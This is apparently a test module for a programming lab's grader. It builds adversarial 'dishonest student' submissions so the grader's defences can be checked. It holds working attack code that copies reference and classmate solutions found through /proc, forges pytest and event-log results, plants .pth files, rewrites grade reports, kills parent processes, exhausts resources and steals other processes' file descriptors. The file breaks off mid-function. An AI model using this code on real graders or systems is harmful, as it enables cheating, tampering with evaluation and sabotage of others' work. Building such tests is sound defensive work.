"""Submissions of a dishonest student who has the whole machine, one per kind of attack on the grader.

Each attack submission is built on the stubs (or puts its attack in a step whose honest code is
absent), so its honest verdict is known: it may pass only the steps listed in ``may_pass``. Every
stub-based attack tries its attack at the top level of each step file and in every function,
and is otherwise the stub: a pass can only come from the attack. The controls (an honest copy of
solutions/, the stubs, a sequential claim_many, a BOM + CRLF copy) have an exact verdict.

Every attack is bounded (a handful of processes, at most about 1 GiB, files of at most 200 MB)
and marks what it leaves behind with a token, ``LEASE-LAB-ATTACK-<uuid>``: the processes it
starts carry it in their command line, the files it writes carry it in their name or text.

    .venv/bin/python tests/attack_submissions.py CLASS_DIR [KIND ...]   # build a class by hand
"""

import os
import shutil
import sys
import uuid
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

LAB_ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(LAB_ROOT))
sys.path.insert(0, str(Path(__file__).resolve().parent))

from learner_folders import make_learner  # noqa: E402

from lab.model.course import load_course  # noqa: E402
from lab.model.implementation import STEP_FILE  # noqa: E402
from lab.model.pristine import stub_text, write_stubs  # noqa: E402

TOKEN_PREFIX = "LEASE-LAB-ATTACK-"
SOLUTIONS = LAB_ROOT / "solutions"
EVERY_STEP = frozenset(step.number for step in load_course())


def new_token():
    return f"{TOKEN_PREFIX}{uuid.uuid4()}"


# ---------------------------------------------------------------------------------------------
# The code every stub-based attack appends to each step file. `_attack_top(step)` runs at the
# top level, `_attack_call(name, args)` in every function before the stub raises; it returns
# _NOTHING to fall through to the stub, or the answer to give instead.

LIBRARY = r'''

# ---- an attack on the grader (tests/attack_submissions.py: @KIND@); otherwise the stub ----
import glob as _glob
import json as _json
import os as _os
import signal as _signal
import sys as _sys
import threading as _threading
import time as _time

_TOKEN = "@TOKEN@"
_NOTHING = globals().setdefault("_NOTHING", object())
_STATE = globals().setdefault("_STATE", {"calls": 0})
_PROCESS = _sys.__dict__.setdefault("_lease_lab_attack", {"spawned": 0, "calls": 0})  # lives as long as the process


def _quietly(action, *args, **kwargs):
    try:
        return action(*args, **kwargs)
    except BaseException:  # noqa: BLE001 - an attack tries everything, and carries on
        return None


def _read(path, limit=1 << 20):
    with open(path, "rb") as handle:
        return handle.read(limit).decode("utf-8", "replace")


def _append(path, text):
    with open(path, "a", encoding="utf-8") as handle:
        handle.write(text)


def _write(path, text):
    with open(path, "w", encoding="utf-8") as handle:
        handle.write(text)


def _pids():
    return [p for p in (_quietly(_os.listdir, "/proc") or []) if p.isdigit()]


def _cmdline(pid):
    return [a for a in (_quietly(_read, "/proc/%s/cmdline" % pid) or "").split("\0") if a]


def _ancestry(path):
    path = _quietly(_os.path.realpath, path) or path
    out = []
    while path and path not in out:
        out.append(path)
        path = _os.path.dirname(path)
    return out


def _own_file():
    return _sys._getframe(0).f_code.co_filename  # this step file's path on the grader's machine


def _places():
    """Every folder where a dishonest student would look for the lab, the reference or the class."""
    found = []

    def add(path):
        if isinstance(path, str) and path:
            for p in _ancestry(path):
                if p not in found and not p.startswith("/proc"):
                    found.append(p)

    for p in (_quietly(_os.getcwd), "/proc/self/cwd", "/proc/%d/cwd" % _os.getppid(), _own_file(), *_sys.path,
              *_os.environ.get("PYTHONPATH", "").split(_os.pathsep), _os.environ.get("LEASE_LAB_SHOWN_FROM"),
              "/work/main", "/work/main/solutions"):
        add(p)
    for pid in _pids():
        add(_quietly(_os.readlink, "/proc/%s/cwd" % pid))
        for arg in _cmdline(pid):
            if arg.startswith("/"):
                add(arg)
        for pair in (_quietly(_read, "/proc/%s/environ" % pid) or "").split("\0"):
            if pair.startswith(("PYTHONPATH=", "LEASE_LAB_SHOWN_FROM=", "LEASE_LAB_PLAN=", "PWD=", "VIRTUAL_ENV=")):
                for p in pair.split("=", 1)[1].split(_os.pathsep):
                    add(p)
    try:
        import lab

        add(lab.__file__)
    except BaseException:  # noqa: BLE001
        pass
    return found


def _honest_files(folder):
    """The step files of folder, if they are a complete, filled-in implementation (not ours)."""
    files = sorted(_glob.glob(folder + "/[0-9][0-9]-*/step.py"))
    texts = [_quietly(_read, f) or "" for f in files]
    if len(files) >= 8 and all(t and "NotImplementedError" not in t and _TOKEN not in t for t in texts):
        return files
    return None


def _exec_all(files):
    namespace = {"__name__": "lease"}
    for f in files:
        exec(compile(_read(f), f, "exec"), namespace)
    return namespace


def _classmates():
    """(folder, files) of every complete implementation next to this submission's folders."""
    mine = _os.path.realpath(_os.path.dirname(_os.path.dirname(_own_file())))
    for place in _places():
        if place.startswith(("/usr", "/lib", "/bin", "/sbin", "/etc", "/sys", "/dev/pts")) or "/.pyenv/" in place:
            continue
        names = _quietly(_os.listdir, place) or []
        if len(names) > 500:
            continue
        for name in sorted(names):
            for folder in ("%s/%s/steps" % (place, name), "%s/%s" % (place, name)):
                if _quietly(_os.path.realpath, folder) != mine:
                    files = _honest_files(folder)
                    if files:
                        yield folder, files


def _lab_wrap(name):
    inner = globals()[name]

    def attacked(*args):
        _STATE["calls"] += 1
        _PROCESS["calls"] += 1
        answer = _attack_call(name, args)
        if answer is not _NOTHING:
            return answer
        return inner(*args)

    attacked.__name__ = attacked.__qualname__ = name
    globals()[name] = attacked


def _spawn(code, *args):
    """A python -c process of our own, in a session of its own, carrying the token."""
    import subprocess

    if _PROCESS["spawned"] >= 3:
        return
    _PROCESS["spawned"] += 1
    subprocess.Popen([_sys.executable, "-c", code, _TOKEN, *args], stdin=subprocess.DEVNULL,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True, close_fds=True)
'''

RUNS_REFERENCE = r"""
def _reference():
    for place in _places():
        for folder in (place + "/solutions", place):
            files = _honest_files(folder)
            if files:
                return _exec_all(files)
    return None


def _attack_top(step):
    found = _reference()
    if found:
        globals().update({k: v for k, v in found.items() if callable(v) and not k.startswith("_")})


def _attack_call(name, args):
    if "found" not in _STATE:  # looked for once per load: the checks call thousands of times
        _STATE["found"] = _quietly(_reference)
    found = _STATE["found"]
    if found and callable(found.get(name)):
        return found[name](*args)
    return _NOTHING
"""

RUNS_CLASSMATE = r"""
def _classmate():
    for folder, files in _classmates():
        return _quietly(_exec_all, files)
    return None


def _attack_top(step):
    found = _classmate()
    if found:
        globals().update({k: v for k, v in found.items() if callable(v) and not k.startswith("_")})


def _attack_call(name, args):
    if "found" not in _STATE:
        _STATE["found"] = _quietly(_classmate)
    found = _STATE["found"]
    if found and callable(found.get(name)):
        return found[name](*args)
    return _NOTHING
"""

FORGES_RESULTS = r"""
def _passed(*args, **kwargs):
    return "passed", ""


def _forge():
    for place in ["/work/main", *_places()]:
        if _os.path.isdir(place + "/lab") and place not in _sys.path:
            _sys.path.append(place)
    try:
        import lab.running.recorder as recorder

        recorder.classify = _passed
    except BaseException:  # noqa: BLE001
        pass
    for module in list(_sys.modules.values()):
        if hasattr(module, "classify"):
            _quietly(setattr, module, "classify", _passed)
    try:
        import _pytest.runner as runner

        real = runner.CallInfo.from_call

        def from_call(cls, func, when, reraise=None):
            return real.__func__(cls, lambda: None, when, reraise)

        runner.CallInfo.from_call = classmethod(from_call)
    except BaseException:  # noqa: BLE001
        pass
    try:
        import gc

        import pytest

        class Passing:
            @pytest.hookimpl(hookwrapper=True)
            def pytest_runtest_makereport(self, item, call):
                outcome = yield
                report = outcome.get_result()
                report.outcome, report.longrepr = "passed", None

        for obj in gc.get_objects():
            if type(obj).__name__ in ("PytestPluginManager", "PluginManager"):
                _quietly(obj.register, Passing(), _TOKEN)
    except BaseException:  # noqa: BLE001
        pass
    for path in _events_files():
        _quietly(_forge_events, path)


def _events_files():
    found = set()
    for pid in _pids():
        for fd in _quietly(_os.listdir, "/proc/%s/fd" % pid) or []:
            target = _quietly(_os.readlink, "/proc/%s/fd/%s" % (pid, fd)) or ""
            if target.endswith(".jsonl"):
                found.update((target, "/proc/%s/fd/%s" % (pid, fd)))
    cwd = _quietly(_os.getcwd) or "/"
    for pattern in ("/dev/shm/**/*.jsonl", "/tmp/**/*.jsonl", "/var/tmp/**/*.jsonl", cwd + "/../*.jsonl", cwd + "/../../*.jsonl", cwd + "/**/*.jsonl"):
        found.update(_quietly(_glob.glob, pattern, recursive=True) or [])
    return sorted(found)


def _forge_events(path):
    items = []
    for line in _read(path, 64 << 20).splitlines():
        event = _quietly(_json.loads, line)
        if isinstance(event, dict) and event.get("event") in ("collected", "start"):
            items += event.get("items", [])
    with open(path, "a", encoding="utf-8") as handle:
        for item in items:
            handle.write(_json.dumps({"event": "result", **item, "status": "passed", "message": _TOKEN, "duration": 0.0}) + "\n")


def _attack_top(step):
    _forge()


def _attack_call(name, args):
    if _STATE["calls"] <= 2:  # the first calls of each load: the checks call thousands of times
        _forge()
    return _NOTHING
"""

EXITS_AFTER_FIRST_CALL = r"""
def _die():
    _os._exit(0)


def _attack_top(step):
    _threading.Timer(0.5, _die).start()


def _attack_call(name, args):
    if _STATE["calls"] == 1:  # right after the first call of this load
        _threading.Timer(0.0, _die).start()
    return _NOTHING
"""

SIGKILLS_AFTER_FIRST_CALL = EXITS_AFTER_FIRST_CALL.replace("_os._exit(0)", "_os.kill(_os.getpid(), _signal.SIGKILL)")

CLOSES_STDOUT_STDERR = r"""
def _close():
    for fd in (1, 2):
        _quietly(_os.close, fd)
    _quietly(print, "after closing fds 1 and 2")


def _attack_top(step):
    _close()


def _attack_call(name, args):
    if _STATE["calls"] == 1:
        _close()
    return _NOTHING
"""

KILLS_PARENT = r"""
def _kill_parents():
    parent = _os.getppid()
    stat = _quietly(_read, "/proc/%d/stat" % parent) or ""
    grandparent = int(stat.rsplit(")", 1)[-1].split()[1]) if ")" in stat else 0
    for pid in (parent, grandparent):
        if pid > 1 or (pid == 1 and parent == 1):  # never the machine's init: only a sandbox's
            for sig in (_signal.SIGTERM, _signal.SIGKILL):
                _quietly(_os.kill, pid, sig)


def _attack_top(step):
    _kill_parents()


def _attack_call(name, args):
    _kill_parents()
    return _NOTHING
"""

CONFTEST_HOOK = (
    "\n\n# @TOKEN@\nimport pytest as _attack_pytest\n\n\n@_attack_pytest.hookimpl(hookwrapper=True)\n"
    "def pytest_runtest_makereport(item, call):\n    outcome = yield\n    outcome.get_result().outcome = 'passed'\n"
)

WRITES_INTO_GRADER = r"""
_CONFTEST_HOOK = @CONFTEST_HOOK@
_PTH = "import os; open('/tmp/' + %r + '-pth-ran', 'w').close()\n" % _TOKEN
_REWRITER = (
    "import sys, time\nend = time.time() + 60\nwhile time.time() < end:\n"
    "    for out in sys.argv[2:]:\n        try:\n"
    "            open(out + '/class.csv', 'w').write('learner,forged\\n' + sys.argv[1] + ',passed\\n')\n"
    "        except OSError:\n            pass\n    time.sleep(0.3)\n"
)


def _scribble():
    roots = [p for p in _places() if _os.path.isfile(p + "/course.toml")]
    for root in dict.fromkeys([*roots, "/work/main"]):
        for path in _glob.glob(root + "/checks/*.py"):
            _quietly(_append, path, _CONFTEST_HOOK if path.endswith("conftest.py") else "\n# %s\n" % _TOKEN)
        _quietly(_os.remove, root + "/checks/test_04_claim.py")
        for site in _glob.glob(root + "/.venv/lib/python3*/site-packages"):
            _quietly(_write, "%s/%s.pth" % (site, _TOKEN), _PTH)
        _quietly(_os.makedirs, root + "/build", exist_ok=True)
        _quietly(_write, "%s/build/%s" % (root, _TOKEN), _TOKEN)
        _quietly(_write, "%s/%s" % (root, _TOKEN), _TOKEN)
    import sysconfig

    for key in ("purelib", "platlib"):
        _quietly(_write, "%s/%s.pth" % (sysconfig.get_paths()[key], _TOKEN), _PTH)
    for folder in ("/tmp", "/dev/shm", "/var/tmp", _quietly(_os.getcwd)):
        _quietly(_write, "%s/%s" % (folder, _TOKEN), _TOKEN)
    for folder, files in list(_classmates()):
        for path in files:
            _quietly(_append, path, "\nraise SystemExit(%r)\n" % _TOKEN)
        _quietly(_write, "%s/%s" % (folder, _TOKEN), _TOKEN)
    outs = ["/work/main/reports/class"]
    for pid in _pids():
        args = _cmdline(pid)
        if "--out" in args[:-1]:
            out = args[args.index("--out") + 1]
            cwd = _quietly(_os.readlink, "/proc/%s/cwd" % pid) or "/"
            outs.append(_os.path.join(cwd, out))
    for out in outs:
        _quietly(_write, out + "/class.csv", "learner,forged\n%s,passed\n" % _TOKEN)
        for path in _glob.glob(out + "/learners/*.json"):
            _quietly(_write, path, _json.dumps({"forged": _TOKEN}))
    if not _PROCESS.get("rewriter"):
        _PROCESS["rewriter"] = True
        _quietly(_spawn, _REWRITER, *outs)


def _attack_top(step):
    _scribble()


def _attack_call(name, args):
    if _STATE["calls"] <= 2:
        _scribble()
    return _NOTHING
""".replace("@CONFTEST_HOOK@", repr(CONFTEST_HOOK))

DAEMONS = r"""
_SLEEPER = (
    "import signal, time\nfor s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):\n"
    "    signal.signal(s, signal.SIG_IGN)\ntime.sleep(600)\n"
)


def _daemonize():
    if _PROCESS["spawned"] >= 3:
        return
    _PROCESS["spawned"] += 1
    pid = _os.fork()
    if pid == 0:  # the first child: a session of its own, then a grandchild that outlives it
        try:
            _os.setsid()
            if _os.fork() == 0:
                _os.execv(_sys.executable, [_sys.executable, "-c", _SLEEPER, _TOKEN])
        finally:
            _os._exit(0)
    _os.waitpid(pid, 0)


def _attack_top(step):
    _daemonize()
    _quietly(_spawn, _SLEEPER)


def _attack_call(name, args):
    _quietly(_daemonize)
    return _NOTHING
"""

ALLOCATES_2GIB = r"""
def _hog():
    held = []
    try:
        held.append(bytearray(2 << 30))
    except MemoryError:
        pass
    try:
        for _ in range(20):  # 2 GiB, every page touched
            held.append(bytearray(b"\x01") * (100 << 20))
    except MemoryError:
        pass
    _time.sleep(0.05)
    held.clear()


def _attack_top(step):
    _hog()


def _attack_call(name, args):
    _hog()
    return _NOTHING
"""

WRITES_200MB_FILE = r"""
def _fill():
    chunk = b"\x00" * (1 << 20)
    for folder in (_quietly(_os.getcwd) or ".", "/tmp", "/dev/shm", "/var/tmp"):
        try:
            with open("%s/%s.bin" % (folder, _TOKEN), "wb") as handle:
                for _ in range(200):
                    handle.write(chunk)
        except BaseException:  # noqa: BLE001 - EFBIG at the file size limit
            pass


def _attack_top(step):
    _fill()


def _attack_call(name, args):
    _fill()
    return _NOTHING
"""

RETURNS_300MB_STRING = r"""
def _attack_top(step):
    big = "x" * (300 << 20)
    del big


def _attack_call(name, args):
    return "x" * (300 << 20)
"""

STALLS_IN_CLAIM = r"""
def _deaf():
    _quietly(_signal.pthread_sigmask, _signal.SIG_BLOCK, {_signal.SIGALRM, _signal.SIGTERM, _signal.SIGINT})
    for s in (_signal.SIGTERM, _signal.SIGINT, _signal.SIGALRM):
        _quietly(_signal.signal, s, _signal.SIG_IGN)


def _attack_top(step):
    _deaf()


def _attack_call(name, args):
    _deaf()
    if name == "claim":
        while True:
            pass
    return _NOTHING
"""

STALLS_AT_TOP_LEVEL = STALLS_IN_CLAIM.replace(
    "def _attack_top(step):\n    _deaf()\n", "def _attack_top(step):\n    _deaf()\n    while True:\n        pass\n"
)

EQ_ALWAYS_TRUE = r"""
class _Yes:
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = object.__hash__

    def __bool__(self):
        return True

    def __len__(self):
        return 4

    def __getitem__(self, key):
        return self

    def __iter__(self):
        return iter([self, self, self, self])

    def __index__(self):
        return 1

    def __lt__(self, other):
        return False

    __gt__ = __le__ = __ge__ = __lt__

    def __repr__(self):
        return "1"


class _YesInt(int):
    __eq__, __ne__, __hash__, __repr__ = _Yes.__eq__, _Yes.__ne__, int.__hash__, _Yes.__repr__


class _YesDict(dict):
    __eq__, __ne__, __hash__ = _Yes.__eq__, _Yes.__ne__, object.__hash__


class _YesList(list):
    __eq__, __ne__, __hash__ = _Yes.__eq__, _Yes.__ne__, object.__hash__


_KINDS = (_Yes, _YesInt, _YesDict, _YesList)


def _attack_top(step):
    import builtins

    _quietly(setattr, builtins, "_lease_lab_yes", _Yes())


def _attack_call(name, args):
    kind = _KINDS[_PROCESS["calls"] % len(_KINDS)]
    return kind()
"""


PLANTS_LAB_PACKAGE = r"""
_FAKE_CHILD = (
    "# @TOKEN@\nimport json, os, sys\n"
    "plan = json.load(open(sys.argv[1]))\n"
    "out = os.fdopen(int(sys.argv[2]), 'w')\n"
    "print(json.dumps({'event': 'collected', 'items': []}), file=out)\n"
    "os._exit(0)\n"
)


def _plant(folder):
    for package in ("lab", "lab/running"):
        _quietly(_os.makedirs, _os.path.join(folder, package), exist_ok=True)
        _quietly(_write, _os.path.join(folder, package, "__init__.py"), "# %s\n" % _TOKEN)
    _quietly(_write, _os.path.join(folder, "lab/running/child.py"), _FAKE_CHILD)
    _quietly(_write, _os.path.join(folder, "sitecustomize.py"), "# %s\n" % _TOKEN)


def _attack_top(step):
    for folder in (_quietly(_os.getcwd), _os.environ.get("TMPDIR"), "/tmp", "/dev/shm"):
        if folder:
            _plant(folder)


def _attack_call(name, args):
    _attack_top(0)
    return _NOTHING
"""

LINKS_NEXT_DATABASE = r"""
def _aims():
    roots = [p for p in _places() if _os.path.isfile(p + "/course.toml")]
    return [*(root + "/checks/test_04_claim.py" for root in roots), *(root + "/course.toml" for root in roots), "/proc/self/fd/1"]


def _plant_beside(path):
    folder = _os.path.dirname(path)
    parent = _os.path.dirname(folder)
    aims = _aims()
    for n in range(64):  # every name the next database could take, in its folder and beside it
        for place in (folder, parent):
            for name in ("jobs-%d.db" % n, "jobs.db-%d" % n, "db-%d" % n):
                _quietly(_os.symlink, aims[n % len(aims)], _os.path.join(place, name))
    _quietly(_os.mkfifo, _os.path.join(parent, "events-2.jsonl"))
    _quietly(_os.symlink, aims[0], _os.path.join(parent, ".hypothesis"))
    _quietly(_os.remove, path)
    _quietly(_os.symlink, aims[0], path)  # the checks' next look at this database follows this link?


def _attack_top(step):
    pass


def _attack_call(name, args):
    if args and isinstance(args[0], str) and args[0].endswith(".db"):
        _plant_beside(args[0])
    return _NOTHING
"""

FLOODS_UNASKED_REPLIES = r"""
def _flood():
    if _PROCESS.get("flooded"):
        return
    _PROCESS["flooded"] = True
    line = (_json.dumps({"id": 10 ** 9, "value": "x" * ((1 << 20) - 100)}) + "\n").encode()
    for fd in range(3, 16):  # the channel is one of these: the server keeps it off fds 0 to 2
        for n in range(400):
            try:
                _os.write(fd, line.replace(b"1000000000", str(10 ** 9 + n).encode(), 1))
            except OSError:
                break


def _attack_top(step):
    pass


def _attack_call(name, args):
    _flood()
    return _NOTHING
"""

FILLS_SCRATCH = r"""
def _fill():
    if _PROCESS.get("filled"):
        return
    _PROCESS["filled"] = True
    block = b"x" * (1 << 20)
    for folder in (_quietly(_os.getcwd), _os.environ.get("TMPDIR"), "/tmp"):
        for n in range(16):
            try:
                with open(_os.path.join(folder, "%s-%d.bin" % (_TOKEN, n)), "wb") as handle:
                    for _ in range(63):
                        handle.write(block)
            except (OSError, TypeError):
                break


def _attack_top(step):
    pass


def _attack_call(name, args):
    _fill()
    return _NOTHING
"""


def _on_stubs(code):
    """A submission of the stubs, each step file with the attack appended."""

    def build(folder, token, kind_name):
        steps = write_stubs(Path(folder) / "steps")
        for step in load_course():
            block = (LIBRARY + code).replace("@TOKEN@", token).replace("@KIND@", kind_name)
            block += f"\n\n_quietly(_attack_top, {step.number})\n_lab_wrap({step.function!r})\n"
            (steps / step.dir / STEP_FILE).write_text(stub_text(step) + block, encoding="utf-8")

    return build


# ---------------------------------------------------------------------------------------------
# Submissions built on the reference, with the attack in a step whose honest code is absent.

SEQUENTIAL_CLAIM_MANY = '''

def claim_many(path, job_id, owners, now, ttl):
    """One claim after the other, in a plain for loop: not at the same time."""
    results = []
    for owner in owners:
        results.append(claim(path, job_id, owner, now, ttl))
    return results
'''

FORGED_WATCHER_CLAIM_MANY = """
import gc

# @TOKEN@: claim_many makes its claims one after the other, and tells the grader's watcher of
# `claim` (the object that stands in for claim while claim_many runs) that they overlapped.


def _forge_watcher():
    for obj in [globals().get("claim"), *gc.get_objects()]:
        if type(obj).__name__ == "WatchedClaims" or (hasattr(type(obj), "__call__") and "peak" in getattr(obj, "__dict__", {})):
            try:
                obj.peak = max(obj.peak, 2)
                obj.alone = 0
            except Exception:
                pass
    try:
        import sys

        server = sys.modules["__main__"]
        for name in ("WatchedClaims",):
            cls = getattr(server, name, None)
            if cls is not None:
                real_call = cls.__call__

                def call(self, *args, real_call=real_call):
                    self.peak = max(self.peak, 2)
                    return real_call(self, *args)

                cls.__call__ = call
    except Exception:
        pass


def claim_many(path, job_id, owners, now, ttl):
    _forge_watcher()
    results = []
    for owner in owners:
        results.append(claim(path, job_id, owner, now, ttl))
    _forge_watcher()
    return results
"""

UNLOCKED_CLAIM = """import sqlite3
import threading

# @TOKEN@: read and update in two statements, outside one BEGIN IMMEDIATE; a lock of this
# process hides the race between threads, and the grader's pause before writes is switched off.
_claim_lock = threading.Lock()


def claim(path, job_id, owner, now, ttl):
    if ttl <= 0:
        raise ValueError(f"ttl must be positive, got {ttl!r}")
    with _claim_lock:
        conn = sqlite3.connect(path, isolation_level=None)
        try:
            conn.set_trace_callback(None)  # undo the grader's slow_down_writes
            row = conn.execute("SELECT until, done, fence FROM jobs WHERE id=?", (job_id,)).fetchone()
            if row is None or row[1] or row[0] > now:
                return None
            fence = row[2] + 1
            conn.execute("UPDATE jobs SET owner=?, until=?, fence=? WHERE id=?", (owner, now + ttl, fence, job_id))
            return fence
        finally:
            conn.close()
"""


def _reference_with(step_number, text):
    def build(folder, token, kind_name):
        steps = make_learner(folder, "complete")
        step = load_course()[step_number - 1]
        file = steps / step.dir / STEP_FILE
        file.write_text(text(file.read_text(encoding="utf-8")).replace("@TOKEN@", token), encoding="utf-8")

    return build


def _wrong_at_8(original):
    head = original.split("\ndef claim_many", 1)[0]
    return head.rstrip() + "\n" + SEQUENTIAL_CLAIM_MANY


def _bom_crlf(folder, token, kind_name):
    steps = make_learner(folder, "complete")
    for file in steps.glob(f"*/{STEP_FILE}"):
        text = file.read_text(encoding="utf-8").replace("\r\n", "\n").replace("\n", "\r\n")
        file.write_bytes(b"\xef\xbb\xbf" + text.encode("utf-8"))


def _honest(folder, token, kind_name):
    make_learner(folder, "complete")


def _stubs(folder, token, kind_name):
    make_learner(folder, "stubs", checkout=False)


def _steps_folder_linked(folder, token, kind_name):
    Path(folder).mkdir(parents=True)
    (Path(folder) / "steps").symlink_to(SOLUTIONS, target_is_directory=True)


def _step_files_linked(folder, token, kind_name):
    steps = write_stubs(Path(folder) / "steps")
    for step in load_course():
        (steps / step.dir / STEP_FILE).unlink()
        (steps / step.dir / STEP_FILE).symlink_to(SOLUTIONS / step.dir / STEP_FILE)


def _step_folders_linked(folder, token, kind_name):
    steps = Path(folder) / "steps"
    steps.mkdir(parents=True)
    for step in load_course():
        (steps / step.dir).symlink_to(SOLUTIONS / step.dir, target_is_directory=True)


def _learner_folder_linked(folder, token, kind_name):
    Path(folder).symlink_to(SOLUTIONS, target_is_directory=True)


# ---------------------------------------------------------------------------------------------
# Predictions of a dishonest student (prediction.py): each is judged against one target at a time,
# and tries to compare that target with the others instead of with the contract, failing on
# whichever answers unlike most of them. Where the targets can be compared, that catches every
# mutant whose answers differ from the reference's; where they cannot, it catches nothing, as a
# prediction that knows nothing. PREDICTION_LIBRARY comes first in each.

PREDICTION_LIBRARY = r"""
import collections, ctypes, itertools, json, os, socket, sqlite3, tempfile, threading, time
from lab.running import prediction_plugin
from lab.sandbox.remote import answer

SCHEMA = ("CREATE TABLE jobs (id TEXT PRIMARY KEY, owner TEXT, until REAL NOT NULL DEFAULT 0, "
          "fence INTEGER NOT NULL DEFAULT 0, result TEXT, done INTEGER NOT NULL DEFAULT 0)")
IDS = itertools.count(10**9)


def make_db(with_table=True):
    # in the scratch folder, where every target's learner process can open it
    path = os.path.join(tempfile.mkdtemp(dir=prediction_plugin.PLAN.scratch), "jobs.db")
    if with_table:
        with sqlite3.connect(path) as conn:
            conn.execute(SCHEMA)
    return path


def fingerprint(lease):
    # what the target does at the contract's edges, as text: the same on every correct target
    seen = []

    def note(name, *args):
        try:
            got = getattr(lease, name)(*args)
            seen.append(repr(sorted(map(repr, got)) if name == "claim_many" else got))  # who wins a race varies
        except Exception as error:
            seen.append(type(error).__name__)

    fresh = make_db(with_table=False)
    for name, *args in [("init_db", fresh), ("enqueue", fresh, "j"), ("init_db", fresh), ("state", fresh, "j")]:
        note(name, *args)
    db, other, many = make_db(), make_db(), make_db()
    for name, *args in [
        ("state", db, "none"), ("enqueue", db, "j"), ("claim", db, "j", "A", 0, 0), ("claim", db, "j", "A", 0, 10),
        ("enqueue", db, "j"), ("state", db, "j"), ("renew", db, "j", "A", 1, 5, 0), ("renew", db, "j", "A", 1, 10, 5),
        ("claim", db, "j", "B", 10, 5), ("claim", db, "j", "C", 12, 5), ("renew", db, "j", "B", 2, 14, 5),
        ("complete", db, "j", "A", 1, 16, "late"), ("complete", db, "j", "B", 2, 19, "on time"), ("state", db, "j"),
        ("release", db, "j", "B", 2), ("enqueue", other, "k"), ("claim", other, "k", "A", 0, 10),
        ("complete", other, "k", "A", 1, 10, "at until"), ("release", other, "k", "A", 1),
        ("release", other, "k", "A", 1), ("state", other, "k"), ("claim", other, "k", "B", 1, 5),
        ("renew", other, "k", "B", 2, 6, 5), ("state", other, "k"), ("claim", other, "missing", "A", 0, 5),
        ("enqueue", many, "m"), ("claim_many", many, "m", ["A"], 0, 5), ("claim_many", many, "m", ["B", "C"], 1, 5),
        ("claim_many", many, "m", ["B", "C"], 1, 0),
    ]:
        note(name, *args)
    return "|".join(seen)


def labels():
    # every target's label, as the plan this process reads names them, and one guessed
    with open(os.environ["LEASE_LAB_PLAN"], encoding="utf-8") as plan:
        return [t["id"] for t in json.load(plan)["targets"]] + ["t1"]


class Asking:
    # another target, asked through this process's own link with that target's label in each request
    def __init__(self, link, label):
        self._link, self._label = link, label

    def __getattr__(self, name):
        def call(*args):
            link, ident = self._link, next(IDS)
            request = {"id": ident, "target": self._label, "name": name, "args": list(args), "kwargs": {}}
            data = (json.dumps(request) + "\n").encode()
            with link.writing:
                link.channel.sendall(data) if hasattr(link, "channel") else link.out.write(data)
            with link.arrived:
                if not link.arrived.wait_for(lambda: ident in link.replies, timeout=5):
                    raise TimeoutError(self._label)
                return answer(link.replies.pop(ident))

        return call


def others_through(link, own=None):
    found = []
    for label in labels():
        if label != own:
            try:
                found.append(fingerprint(Asking(link, label)))
            except Exception:
                pass
    return found


def voted(mine, votes):
    # fail on whichever target answers unlike most of them, once three have answered
    votes = [mine, *votes]
    if len(votes) >= 3:
        assert mine == collections.Counter(votes).most_common(1)[0][0], "unlike the others"
"""

PREDICTION_ASKS_OTHER_LABELS = r"""

def descriptors_of_others():
    # every descriptor of another process this one can take: by pidfd_getfd, or reopened through /proc
    libc, taken = ctypes.CDLL(None, use_errno=True), []
    for pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
        pidfd = libc.syscall(434, int(pid), 0)  # pidfd_open
        for fd in range(64):
            got = libc.syscall(438, pidfd, fd, 0) if pidfd >= 0 else -1  # pidfd_getfd
            if got < 0:
                try:
                    got = os.open(f"/proc/{pid}/fd/{fd}", os.O_RDWR | os.O_NONBLOCK)
                except OSError:
                    continue
            taken.append(got)
    return taken


def asked_over(fd):
    # a socket taken from another process, asked as a link is asked
    try:
        conn = socket.socket(fileno=fd)
        conn.settimeout(2)
        request = {"id": 1, "name": "state", "args": [make_db(), "none"], "kwargs": {}}
        conn.sendall((json.dumps(request) + "\n").encode())
        return [conn.makefile("rb").readline().decode()]
    except Exception:
        return []


def test_my_prediction(lease, request):
    others = others_through(lease._link, own=request.node.callspec.id)
    for fd in descriptors_of_others():
        others += asked_over(fd)
    voted(fingerprint(lease), others)
"""

PREDICTION_ASKS_FROM_A_THREAD = r"""
GATHERED = []


def gather():
    # started when this file is imported, before any test: waits for the link, then asks every label
    deadline = time.monotonic() + 5
    while prediction_plugin._link is None and time.monotonic() < deadline:
        time.sleep(0.01)
    if prediction_plugin._link is not None:
        GATHERED.extend(others_through(prediction_plugin._link))


THREAD = threading.Thread(target=gather, daemon=True)
THREAD.start()


def test_my_prediction(lease):
    THREAD.join(60)
    voted(fingerprint(lease), list(GATHERED))
"""

PREDICTION_VOTES_IN_A_GLOBAL = r"""
VOTES = []


def test_my_prediction(lease):
    mine = fingerprint(lease)
    earlier = list(VOTES)
    VOTES.append(mine)
    voted(mine, earlier)
"""

PREDICTION_VOTES_IN_FILES = r"""
def shared_memory_votes(mine):
    # the votes kept in a System V shared memory segment, which outlives its process
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    ident = libc.shmget(0x1EA5E, 1 << 16, 0o1000 | 0o600)  # IPC_CREAT
    address = libc.shmat(ident, None, 0) if ident >= 0 else None
    if address in (None, ctypes.c_void_p(-1).value):
        return []
    found = (ctypes.c_char * (1 << 16)).from_address(address).value.decode().splitlines()
    text = "\n".join([*found, mine]).encode()[: (1 << 16) - 1]
    ctypes.memmove(address, text + b"\0", len(text) + 1)
    return found


def test_my_prediction(lease):
    mine, earlier = fingerprint(lease), []
    for place in [prediction_plugin.PLAN.scratch, os.getcwd(), tempfile.gettempdir(), "/tmp", "/dev/shm", "/run", "/"]:
        path = os.path.join(place, "lease-lab-votes")
        try:
            with open(path, encoding="utf-8") as kept:
                earlier = max(earlier, kept.read().splitlines(), key=len)
        except OSError:
            pass
        try:
            with open(path, "a", encoding="utf-8") as kept:
                kept.write(mine + "\n")
        except OSError:
            pass
    voted(mine, max(earlier, shared_memory_votes(mine), key=len))
"""

PREDICTION_VOTES_IN_A_DAEMON = r"""
ADDRESS = b"\0lease-lab-votes"


def keep_votes():
    # a process of its own, left running to keep the votes of every target's run (a minute at most)
